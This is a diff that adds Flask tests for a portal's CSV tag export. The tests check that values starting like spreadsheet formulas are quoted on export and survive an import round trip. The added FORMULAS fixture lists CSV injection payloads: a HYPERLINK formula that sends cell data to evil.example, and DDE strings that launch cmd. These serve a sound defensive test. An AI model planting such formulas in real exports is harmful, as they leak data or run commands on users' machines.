@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import UTC, datetime
 from typing import Any
@@ -213,3 +214,51 @@ def test_the_whitelist_export_reads_as_stations_expect(app: Flask, world: World,
     assert lines[0] == "UID,GID,Expiry,Authorization"
     assert "W-1,,2027-05-01T08:30:00Z,accepted" in lines
     assert "W-2,W-1,,blocked" in lines
+
+
+# What OWASP's "CSV Injection" lists: each runs as a formula in a spreadsheet.
+FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+            "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1")
+
+
+def _exported_rows(client: PortalClient, csv_format: str) -> dict[str, list[str]]:
+    response = client.get(f"/tags/export?format={csv_format}")
+    assert response.status_code == 200
+    return {cells[0]: cells for cells in csv.reader(io.StringIO(response.get_data(as_text=True)))}
+
+
+def test_the_export_quotes_every_cell_a_spreadsheet_would_run_as_a_formula(
+    app: Flask, world: World, portal
+) -> None:
+    for number, formula in enumerate(FORMULAS):
+        _add_tags(app, world.a, f"F-{number}", note=formula, max_active_transactions=-1)
+    _add_tags(app, world.a, "-1+1", parent_id_tag="F-0", note="'=already quoted")
+    client = _admin(portal, world.a)
+    rows = _exported_rows(client, "portal")
+    for number, formula in enumerate(FORMULAS):
+        # a number stays a number: -1 is no formula
+        assert rows[f"F-{number}"] == [f"F-{number}", "", "", "-1", "false", "'" + formula]
+    assert rows["'-1+1"] == ["'-1+1", "F-0", "", "1", "false", "''=already quoted"]
+    whitelist = _exported_rows(client, "whitelist")
+    assert whitelist["'-1+1"] == ["'-1+1", "F-0", "", "accepted"]
+    assert whitelist["F-0"] == ["F-0", "", "", "accepted"]
+
+
+def test_a_round_trip_keeps_text_that_looks_like_a_formula(
+    app: Flask, world: World, portal
+) -> None:
+    for number, formula in enumerate(FORMULAS):
+        _add_tags(app, world.a, f"F-{number}", note=formula)
+    _add_tags(app, world.a, "-1+1", note="'=already quoted")
+    _add_tags(app, world.a, "'QUOTED", note="'just a quote")
+    exported = _admin(portal, world.a).get("/tags/export").get_data(as_text=True)
+    target = make_tenant(app)
+    page = _import(_admin(portal, target), exported).get_data(as_text=True)
+    assert "0 rejected" in page
+    assert _tags(app, target) == _tags(app, world.a)
+    # importing such text keeps it: it means nothing in the portal, only in a spreadsheet
+    assert _tags(app, target)["F-0"][4] == FORMULAS[0]
